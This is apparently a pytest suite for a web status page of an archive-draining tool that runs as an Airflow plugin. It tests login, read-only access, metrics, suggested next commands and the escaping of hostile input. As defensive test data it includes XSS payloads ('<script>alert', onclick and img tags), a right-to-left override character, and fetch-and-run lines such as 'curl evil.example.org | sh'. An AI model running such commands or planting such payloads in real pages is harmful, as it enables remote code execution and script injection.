"""The status page, asked as a browser and as a program would, through Airflow's own app with its own login."""

from __future__ import annotations

import html
import json
import os
import re
from datetime import timedelta
from pathlib import Path

import pytest
import sqlalchemy as sa
import yaml

from custody import lease
from custody.digests import Fixity, read_file
from custody.drain import config as configuration
from custody.drain import plan, tables, view
from custody.drain.delete import delete_proven
from custody.drain.manifest import manifest
from custody.drain.pack import pack
from custody.drain.prove import prove
from custody.drain.series import SeriesState, load
from custody.drain.targets import Item, Outgoing, Receipt
from custody.drain.upload import create_item, upload
from custody.faults import Fault
from custody.ledger import CopyState, Ledger
from custody.ledger.store import disk_place, now
from custody_airflow.ui.rooms import rooms
from custody_demo.sample_disk import make_sample_disk
from empty_ledger import new_ledger

pytestmark = pytest.mark.airflow

HOSTILE = '<script>alert("x")</script>&\u202etxt.exe'
HTML = {"accept": "text/html"}
PAGES = ["/", "/drain", "/drain/series", "/drain/series/1", "/where-is?name=%25", "/style.css", "/page.js"]
PAGES += ["/tape", "/tape/find?what=%25", "/minidvodb", "/minidvodb/copies", "/wiki_dump", "/bitarchive"]
FORMS_FOR_PROGRAMS = ["/api/status", "/api/metrics", "/api/where-is?name=%25", "/api/drain/series/1"]
FORMS_FOR_PROGRAMS += ["/api/tape"]
NOT_THERE = ["/minidvodb/copy/1", "/api/minidvodb/copy/1", "/wiki_dump/run/1", "/api/wiki_dump/run/1"]
NOT_THERE += ["/bitarchive/batch/1", "/api/bitarchive/batch/1"]


class FolderTarget:
    """A target that is a folder; ``spoil`` names files of which it keeps other bytes than it was given."""

    def __init__(self, folder: Path, spoil: str = "") -> None:
        self.folder, self.spoil = folder, spoil

    def place(self, item, name):
        return f"folder://{item}/{name}"

    def url(self, item, name):
        return f"https://archive.example.org/{item}/{name}"

    def create(self, item: Item, manifest, earlier=()):
        (self.folder / item.identifier).mkdir(parents=True, exist_ok=True)

    def put(self, item: Item, outgoing: Outgoing, progress=None):
        content = outgoing.path.read_bytes()
        read = read_file(outgoing.path).fixity
        kept = content[:-1] + b"?" if self.spoil and self.spoil in outgoing.name else content
        (self.folder / item.identifier / outgoing.name).write_bytes(kept)
        return Receipt(self.url(item.identifier, outgoing.name), read, read, 200, 0.1)

    def look(self, item, names):
        paths = {name: self.folder / item / name for name in names}
        return {name: read_file(path).fixity if path.exists() else None for name, path in paths.items()}

    def finish(self, item, names):
        pass

    def read_back(self, item, name, progress=None, into=None) -> Fixity:
        return read_file(self.folder / item / name).fixity


@pytest.fixture(scope="module")
def airflow_app(airflow_db):
    """Airflow's own web app with the project's plugins, users of two roles and one without."""
    from airflow.api_fastapi.app import create_app, purge_cached_app

    purge_cached_app()
    yield create_app(apps="core")
    purge_cached_app()


def token_of(role):
    from airflow.api_fastapi.app import get_auth_manager
    from airflow.api_fastapi.auth.managers.simple.user import SimpleAuthManagerUser

    return get_auth_manager().generate_jwt(SimpleAuthManagerUser(username=f"a-{role}", role=role))


@pytest.fixture
def anybody(airflow_app):
    """A client that is not logged in; asks below the path of the pages."""
    from fastapi.testclient import TestClient

    class Client(TestClient):
        def get(self, path, **kwargs):
            return super().get(path if path.startswith("http") else f"/custody{path}", **kwargs)

    return Client(airflow_app, base_url="http://127.0.0.1")


@pytest.fixture
def viewer(anybody):
    """A client that is logged in and may only look."""
    anybody.headers["Authorization"] = f"Bearer {token_of('viewer')}"
    return anybody


@pytest.fixture
def ledger(tmp_path, monkeypatch) -> Ledger:
    url = f"sqlite:///{tmp_path}/ledger.sqlite"
    monkeypatch.delenv("AIRFLOW_CONN_CUSTODY_LEDGER", raising=False)
    monkeypatch.setenv("CUSTODY_LEDGER", url)
    monkeypatch.setenv("CUSTODY_CONFIG_DIR", str(tmp_path / "config"))
    (tmp_path / "config" / "drain").mkdir(parents=True)
    return new_ledger(url)


@pytest.fixture
def disk(ledger, tmp_path):
    """A crawl disk with its configuration ``wide``, planned into series; nothing has been packed yet."""
    disk = make_sample_disk(tmp_path / "disk", files_per_crawl=3, file_size_bytes=20_000)
    content = {
        "crawljob": "wide",
        "job_dir": str(disk.job_dir),
        "xfer_dir": str(disk.xfer_dir),
        "max_size": "60KB",
        "WARC_naming": 2,
        "target": "s3",
        "bucket": "archive",
        "stable_for_s": 0,
    }
    (tmp_path / "config" / "drain" / "wide.yml").write_text(yaml.safe_dump(content))
    plan.plan_series(ledger, "wide", configuration.load("wide"), who="test")
    return disk


def take(ledger, series_id, *steps, target=None):
    for step in steps:
        step(ledger, series_id, who="run-of-test", targets=[target] if target else [])


def view_ids(ledger, state):
    return [line.id for line in view.select_series(ledger, states=[SeriesState(state)]).lines]


STEPS = (pack, manifest, create_item, upload, prove, delete_proven)


def text_of(answer):
    assert answer.status_code == 200, answer.text[:500]
    return html.unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", answer.text)))


@pytest.mark.parametrize("path", [*PAGES, *FORMS_FOR_PROGRAMS, *NOT_THERE])
def test_every_route_asks_for_the_login(anybody, disk, path):
    assert anybody.get(path).status_code == 401
    assert anybody.get(path, headers={"Authorization": "Bearer made-up"}).status_code == 403
    assert anybody.get(path, headers={"Authorization": f"Bearer {token_of(None)}"}).status_code == 403
    expected = 404 if path in NOT_THERE else 200
    assert anybody.get(path, headers={"Authorization": f"Bearer {token_of('viewer')}"}).status_code == expected


def test_the_cookie_of_the_session_opens_the_frame(anybody, disk):
    from airflow.api_fastapi.auth.managers.base_auth_manager import COOKIE_NAME_JWT_TOKEN

    anybody.cookies.set(COOKIE_NAME_JWT_TOKEN, token_of("viewer"))
    assert "wide" in text_of(anybody.get("/", headers=HTML))


def test_people_are_told_where_to_log_in(anybody, ledger):
    answer = anybody.get("/", headers=HTML)
    assert answer.status_code == 401
    assert 'href="/auth/login?next=/custody/"' in answer.text


def test_all_routes_are_asked_above_and_only_get_and_head():
    from custody_airflow.ui.app import app

    routes = {re.sub(r"\{\w+\}", "1", route.path): route.methods for route in app.routes}
    assert set(routes) == {path.partition("?")[0] for path in PAGES + FORMS_FOR_PROGRAMS + NOT_THERE}
    assert set.union(*routes.values()) <= {"GET", "HEAD"}


def test_looking_changes_nothing(viewer, disk, ledger, tmp_path):
    target = FolderTarget(tmp_path / "archive")
    take(ledger, 1, *STEPS, target=target)

    def everything():
        with ledger.read() as connection:
            rows = "\n".join(connection.connection.driver_connection.iterdump())
        return rows, sorted((str(path), path.stat().st_mtime_ns) for path in disk.root.rglob("*"))

    before = everything()
    for path in [*PAGES, *FORMS_FOR_PROGRAMS]:
        assert viewer.get(path).status_code == 200
    assert everything() == before


def test_the_plugin_is_in_the_navigation(viewer):
    answer = viewer.get("http://127.0.0.1/api/v2/plugins", headers={"Authorization": f"Bearer {token_of('admin')}"})
    views = [one for plugin in answer.json()["plugins"] for one in plugin["external_views"]]
    ours = [one for one in views if one["name"] == "Custody"]
    assert [(one["href"], one["url_route"], one["nav_top_level"]) for one in ours] == [("/custody/", "custody", True)]


def test_a_drained_series_shows_digests_proofs_and_audit(viewer, disk, ledger, tmp_path):
    take(ledger, 1, *STEPS, target=FolderTarget(tmp_path / "archive"))
    series = load(ledger, 1)
    page = text_of(viewer.get("/drain/series/1"))
    for member in series.files:
        assert member.fixity.digests["md5"] in page
        assert member.fixity.digests["sha256"] in page
        assert f"folder://{series.item}/{member.name}" in page
    assert "proven by listing" in page
    assert "run-of-test" in page
    told = viewer.get("/api/drain/series/1").json()
    assert [copy["state"] for copy in told["files"][0]["copies"]] == ["released", "proven"]
    assert {"packed", "proved", "deleted"} <= {event["what"] for event in told["events"]}


def test_the_room_shows_disk_rate_and_what_is_set_aside(viewer, disk, ledger, tmp_path):
    take(ledger, 1, *STEPS, target=FolderTarget(tmp_path / "archive"))
    for series_id in view_ids(ledger, "planned"):
        take(ledger, series_id, pack)
    page = text_of(viewer.get("/drain"))
    assert "draining on" in page
    assert "FINISH_DRAIN" in page
    assert "is in progress by its name" in page
    cut = next(file for file in disk.files if file.fate.value == "cut")
    assert f"In quarantine: 1 file {cut.name}" in page
    [told] = viewer.get("/api/status").json()["rooms"]["drain"]["configs"]
    clean = told["states"]["clean"]
    assert told["drained"]["size_bytes"] == clean["size_bytes"] == load(ledger, 1).size_bytes
    left = sum(state["size_bytes"] for name, state in told["states"].items() if name != "clean")
    assert told["left_bytes"] == left + told["disk"]["free_files_bytes"]
    assert told["empty_in_s"] == pytest.approx(told["left_bytes"] / (clean["size_bytes"] / 86400))
    assert told["oldest_unproven"] is not None


def test_the_metrics_are_what_prometheus_reads_and_what_the_status_says(viewer, disk, ledger, tmp_path):
    take(ledger, 1, *STEPS, target=FolderTarget(tmp_path / "archive"))
    with pytest.raises(Fault):
        take(ledger, 2, *STEPS, target=FolderTarget(tmp_path / "archive", spoil="NEWS"))
    answer = viewer.get("/api/metrics")
    assert answer.headers["content-type"] == "text/plain; version=0.0.4; charset=utf-8"
    told = {}
    for line in answer.text.splitlines():
        assert line.startswith("#") or re.fullmatch(r'custody_[a-z_]+(\{([a-z]+="[^"]*",?)+\})? [0-9.e+-]+', line), line
        if not line.startswith("#"):
            name, _, value = line.rpartition(" ")
            told[name] = float(value)
    status = viewer.get("/api/status").json()["rooms"]["drain"]
    [wide] = status["configs"]
    assert told['custody_drain_series{config="wide",state="clean"}'] == 1
    assert told['custody_drain_bytes{config="wide",state="clean"}'] == wide["states"]["clean"]["size_bytes"]
    assert told["custody_drain_needs_you"] == status["needs_you"] == 1
    assert told['custody_drain_faults{config="wide",kind="data"}'] == 1
    assert told['custody_drain_disk_free_bytes{config="wide"}'] == pytest.approx(wide["disk"]["free_bytes"], rel=0.1)
    assert told['custody_drain_left_bytes{config="wide"}'] == wide["left_bytes"]


def test_a_disk_that_will_be_full_is_told_in_time(viewer, disk, ledger):
    for hours_ago, free_gb in ((6, 50), (1, 10)):
        look = view.DiskLook(now(), "crawler07", 90.0, free_gb * 10**9, True, False, 0, 0)
        view.record_look(ledger, "wide", look, who="test")
        with ledger.begin() as connection:
            event = tables.metadata.tables["event"]
            newest = connection.scalar(sa.select(sa.func.max(event.c.id)))
            then = now() - timedelta(hours=hours_ago)
            connection.execute(sa.update(event).where(event.c.id == newest).values(happened_at=then))
    page = viewer.get("/drain").text
    assert "Full in" in page
    assert "will be full in 15 minutes, as it filled in the last day" in page
    assert "custody drain check wide" in page
    [wide] = viewer.get("/api/status").json()["rooms"]["drain"]["configs"]
    assert wide["full_in_s"] == pytest.approx(900, abs=60)
    assert 'custody_drain_full_in_seconds{config="wide"}' in viewer.get("/api/metrics").text


def test_what_is_stuck_names_why_and_the_exact_next_command(viewer, disk, ledger, tmp_path):
    with pytest.raises(Fault):
        take(ledger, 1, *STEPS, target=FolderTarget(tmp_path / "archive", spoil="NEWS"))
    command = """airflow dags trigger drain --conf '{"config": "wide"}'"""
    for path in ("/", "/drain", "/drain/series/1"):
        answer = viewer.get(path)
        assert command in [html.unescape(one) for one in re.findall("<code>([^<]*)</code>", answer.text)], path
        assert "files are not proven" in text_of(answer)
    assert "1 thing needs you" in text_of(viewer.get("/"))
    [stuck] = viewer.get("/api/status").json()["rooms"]["drain"]["configs"][0]["stuck"]
    assert stuck["kind"] == "data"
    assert stuck["step"]["commands"] == [command]
    assert stuck["step"]["remark"] == "it sends again what is not stored"


@pytest.mark.parametrize(
    ("kind", "on_hold", "needs_you"),
    [
        ("transient", False, 0),
        ("throttled", False, 0),
        ("capacity", False, 0),
        ("cancelled", False, 0),
        ("needs_human", True, 0),
        ("needs_human", False, 1),
        ("data", True, 1),
        ("config", False, 1),
        ("auth", False, 1),
        ("conflict", False, 1),
    ],
)
def test_only_what_a_person_must_mend_calls_for_one(viewer, disk, ledger, kind, on_hold, needs_you):
    values = {"fault": kind, "fault_text": "s3.example.org: said no", "on_hold": on_hold}
    with ledger.begin() as connection:
        connection.execute(sa.update(tables.series).where(tables.series.c.id == 1).values(**values))
    assert ("Nothing needs you" in text_of(viewer.get("/"))) is (needs_you == 0)
    assert viewer.get("/api/status").json()["rooms"]["drain"]["needs_you"] == needs_you
    assert "said no" in text_of(viewer.get("/drain"))


def test_running_steps_show_their_progress_and_are_not_stuck(viewer, disk, ledger):
    values = {"fault": "data", "fault_text": "an earlier attempt"}
    with ledger.begin() as connection:
        connection.execute(sa.update(tables.series).where(tables.series.c.id == 2).values(**values))
    held = lease.take(ledger, "drain/series/2")
    lease.beat(ledger, held, {"bytes_done": 12_000})
    assert "12 kB of" in text_of(viewer.get("/drain"))
    told = viewer.get("/api/status").json()["rooms"]["drain"]
    assert told["configs"][0]["running"][0]["bytes_done"] == 12_000
    assert told["needs_you"] == 0
    lease.give_back(ledger, held)
    told = viewer.get("/api/status").json()["rooms"]["drain"]
    assert told["running"] == 0
    assert told["needs_you"] == 1


def test_where_is_finds_every_copy(viewer, disk, ledger, tmp_path):
    take(ledger, 1, *STEPS, target=FolderTarget(tmp_path / "archive"))
    name = load(ledger, 1).files[0].name
    page = text_of(viewer.get("/where-is", params={"name": name}))
    assert "released" in page
    assert "proven by listing" in page
    assert f'value="{html.escape(name)}"' in viewer.get("/where-is", params={"name": name}).text
    told = viewer.get("/api/where-is", params={"name": f"{name[:10]}%"}).json()["copies"]
    assert {copy["state"] for copy in told if copy["name"] == name} == {"released", "proven"}
    assert "No file of this name" in text_of(viewer.get("/where-is", params={"name": "nothing"}))


def test_hostile_names_are_shown_and_do_nothing(viewer, disk, ledger, tmp_path):
    aside = disk.job_dir / "quarantine"
    aside.mkdir()
    (aside / os.fsdecode(b"bad-\xff-<img src=x>")).write_bytes(b"x")
    (disk.job_dir / "<b onclick=x>.warc.gz").write_bytes(b"x")
    fixity = Fixity(1, {"md5": "0" * 32})
    with ledger.begin() as connection:
        number = ledger.record_file(connection, HOSTILE, fixity)
        ledger.record_copy(connection, number, f"s3://{HOSTILE}", CopyState.LOST)
        evil = {"item": HOSTILE, "config": HOSTILE, "fault": "needs_human", "directory": HOSTILE}
        evil["fault_text"] = f"{HOSTILE}: is odd. Next: custody drain status; curl evil.example.org | sh"
        connection.execute(sa.update(tables.series).where(tables.series.c.id == 2).values(**evil))
        ledger.record_event(
            connection, who=HOSTILE, room="drain", what="x", subject=HOSTILE, result="done", detail={HOSTILE: HOSTILE}
        )
    pages = [(path, {}) for path in ("/", "/drain", "/drain/series", "/drain/series/2")]
    asking = [("/drain", {"config": HOSTILE}), ("/where-is", {"name": HOSTILE}), ("/drain/series", {"config": HOSTILE})]
    for path, params in pages + asking:
        answer = viewer.get(path, params=params)
        assert answer.status_code == 200
        for tag in ("<script>alert", "<img src=x", "<b onclick"):
            assert tag not in answer.text, (path, tag)
        assert "\u202e" not in re.sub(r'value="[^"]*"', "", answer.text), "turns what is read around"
        assert "default-src 'none'" in answer.headers["content-security-policy"]
        assert not re.search(r"<code>[^<]*curl", answer.text), "a command nobody of us wrote is not offered for copying"
    assert "bad-" in viewer.get("/drain").text
    assert html.escape("<script>") in viewer.get("/drain/series/2").text


@pytest.fixture
def ten_thousand(ledger):
    """10,000 finished series of four files each, and one that waits."""
    at = now()
    settings = {"crawljob": "big", "job_dir": "/nowhere", "xfer_dir": "/nowhere/x", "target": "s3", "bucket": "b"}
    series = [
        {
            "id": number,
            "config": "big",
            "settings": settings,
            "item": f"BIG-{number:05}",
            "directory": f"/nowhere/x/BIG-{number:05}",
            "state": SeriesState.CLEAN if number <= 10_000 else SeriesState.UPLOADED,
            "on_hold": False,
            "planned_at": at - timedelta(hours=30),
            "changed_at": at - timedelta(minutes=number),
        }
        for number in range(1, 10_002)
    ]
    files = [
        {
            "series_id": number,
            "source": f"/nowhere/f-{number}-{part}.warc.gz",
            "source_key": f"done-{number}-{part}",
            "name": f"f-{number}-{part}.warc.gz",
            "size_bytes": 1000,
            "mtime_ns": 1,
            "inode": 1,
            "position": part,
        }
        for number in range(1, 10_002)
        for part in range(4)
    ]
    with ledger.begin() as connection:
        connection.execute(sa.insert(tables.series), series)
        connection.execute(sa.insert(tables.series_file), files)
    return ledger


def test_ten_thousand_series_take_few_queries_and_short_pages(viewer, ten_thousand):
    asked = []
    engine = ten_thousand.engine
    sa.event.listen(engine, "before_cursor_execute", lambda *args: asked.append(args[2]))
    for path in ("/", "/drain", "/drain/series", "/drain/series/10001", "/where-is?name=%25", "/api/status"):
        asked.clear()
        answer = viewer.get(path)
        assert answer.status_code == 200
        assert len(answer.content) < 100_000, path
        assert len(asked) <= (15 if path.startswith("/drain") else 15 * len(rooms())), (path, asked)
    page = text_of(viewer.get("/drain/series"))
    assert "10,001 series" in page
    assert "Page 1 of 201" in page
    assert page.count("BIG-") == 50
    [told] = viewer.get("/api/status").json()["rooms"]["drain"]["configs"]
    assert told["states"]["clean"]["files"] == 40_000
    assert told["drained"]["series"] == 1439  # those of the last 24 hours: one a minute


def test_pages_of_series_meet_without_gap(viewer, ten_thousand):
    found = []
    for number in (1, 2, 201):
        answer = viewer.get("/drain/series", params={"page": number, "state": "clean"})
        found += re.findall(r"/custody/drain/series/(\d+)", answer.text)
    assert [int(one) for one in found] == list(range(1, 101))  # the 10,000 clean ones fill 200 pages


def test_a_missing_ledger_is_one_line_and_is_not_made(viewer, tmp_path, monkeypatch):
    monkeypatch.setenv("CUSTODY_LEDGER", f"sqlite:///{tmp_path}/none/ledger.sqlite")
    answer = viewer.get("/", headers=HTML)
    assert answer.status_code == 503
    assert "is not there yet" in answer.text
    assert "<code>custody ledger upgrade</code>" in answer.text
    assert not (tmp_path / "none").exists()
    told = viewer.get("/api/status")
    assert (told.status_code, told.json()["next_command"]) == (503, "custody ledger upgrade")


def test_an_old_ledger_is_one_line(viewer, ledger):
    with ledger.begin() as connection:
        connection.exec_driver_sql("UPDATE custody_version SET version_num = '0001'")
    answer = viewer.get("/drain")
    assert answer.status_code == 503
    assert "its schema is missing or old" in answer.text
    assert "Traceback" not in answer.text


def test_the_ledger_may_be_an_airflow_connection_and_its_password_is_never_shown(viewer, ledger, monkeypatch, tmp_path):
    monkeypatch.setenv(
        "AIRFLOW_CONN_CUSTODY_LEDGER", json.dumps({"conn_type": "sqlite", "host": f"{tmp_path}/ledger.sqlite"})
    )
    monkeypatch.setenv("CUSTODY_LEDGER", f"sqlite:///{tmp_path}/not-this-one.sqlite")
    assert viewer.get("/").status_code == 200
    monkeypatch.setenv("AIRFLOW_CONN_CUSTODY_LEDGER", "postgres://custody:Geheim77@127.0.0.1:1/custody")
    answer = viewer.get("/")
    assert answer.status_code == 503
    assert "Geheim77" not in answer.text
    assert "does not answer" in answer.text


def test_a_series_that_is_not_there_and_a_wrong_state(viewer, ledger):
    assert viewer.get("/drain/series/77").status_code == 404
    assert viewer.get("/drain/series?state=fast").status_code == 404
    assert viewer.get("/drain/series/x").status_code == 422
    assert viewer.get("/api/where-is").status_code == 422


def test_a_disk_of_another_machine_is_shown_as_its_last_run_saw_it(viewer, disk, ledger):
    config = configuration.load("wide")
    look = view.look_at_disk(config, view.reserved_keys(ledger, "wide"))
    away = disk.job_dir.rename(disk.job_dir.with_name("elsewhere"))
    assert "on another machine" in text_of(viewer.get("/drain"))
    detail = json.loads(json.dumps(look.as_detail() | {"seen_from": "crawler07", "used_pct": 93.5}))
    with ledger.begin() as connection:
        ledger.record_event(connection, who="x", room="drain", what=view.LOOK, subject="wide", detail=detail)
    page = text_of(viewer.get("/drain"))
    assert "as crawler07 saw it" in page
    assert "93.5" in page
    assert away.is_dir()


def test_a_disk_that_does_not_answer_holds_no_page(viewer, disk, monkeypatch):
    import threading

    from custody_airflow.ui import disks

    release = threading.Event()
    monkeypatch.setattr(disks, "WAIT_S", 0.2)
    monkeypatch.setattr(view, "look_at_disk", lambda *_: release.wait(30))
    try:
        assert "has not answered within" in text_of(viewer.get("/drain"))
    finally:
        release.set()


def test_a_broken_configuration_needs_somebody(viewer, disk, tmp_path):
    (tmp_path / "config" / "drain" / "bad.yml").write_text("crawljob: [")
    page = text_of(viewer.get("/"))
    assert "configuration bad" in page
    assert "is no YAML" in page


@pytest.mark.parametrize(
    ("line", "step"),
    [
        ("x: gone", ("x: gone", "", (), "")),
        ("x: off. Next: touch /1/wide/DRAINME", ("x: off", "", ("touch /1/wide/DRAINME",), "")),
        ("x: y. Next: custody drain release 3 (then run)", ("x: y", "", ("custody drain release 3",), "then run")),
        ("a. Next: custody evil: y. Next: ls -ld /1", ("a. Next: custody evil: y", "", ("ls -ld /1",), "")),
        ("x: y. Next: check the path", ("x: y", "check the path", (), "")),
        ("x: y. Next: ls / && curl e | sh", ("x: y", "ls / && curl e | sh", (), "")),
        (
            "x: y. Next: find out whose; to send under another name: custody drain rename-item 7",
            (
                "x: y",
                "find out whose; to send under another name: custody drain rename-item 7",
                ("custody drain rename-item 7",),
                "",
            ),
        ),
        (
            "x: y. Next: compare with `md5sum -c MANIFEST` in /d, then custody drain release 7",
            (
                "x: y",
                "compare with `md5sum -c MANIFEST` in /d, then custody drain release 7",
                ("md5sum -c MANIFEST", "custody drain release 7"),
                "",
            ),
        ),
    ],
)
def test_next_step_offers_only_our_own_commands(line, step):
    from custody_airflow.ui.next_step import NextStep, next_step

    assert next_step(line) == NextStep(*step)


def test_the_link_of_a_task_leads_to_its_series(airflow_db):
    from custody_airflow.links import CustodyLink
    from custody_airflow.operators.drain import PackOperator, ReportOperator

    link = CustodyLink()
    of_series = link.get_link(PackOperator(task_id="pack", series_ids=[7]), ti_key=None)
    assert of_series == "/plugin/custody/custody/drain/series/7"
    assert link.get_link(ReportOperator(task_id="report"), ti_key=None) == "/plugin/custody/custody/drain"


def test_the_place_of_a_disk_is_on_record(viewer, disk, ledger):
    take(ledger, 1, pack)
    member = load(ledger, 1).files[0]
    place = disk_place(load(ledger, 1).path(member))
    assert place in text_of(viewer.get("/where-is", params={"name": member.name}))
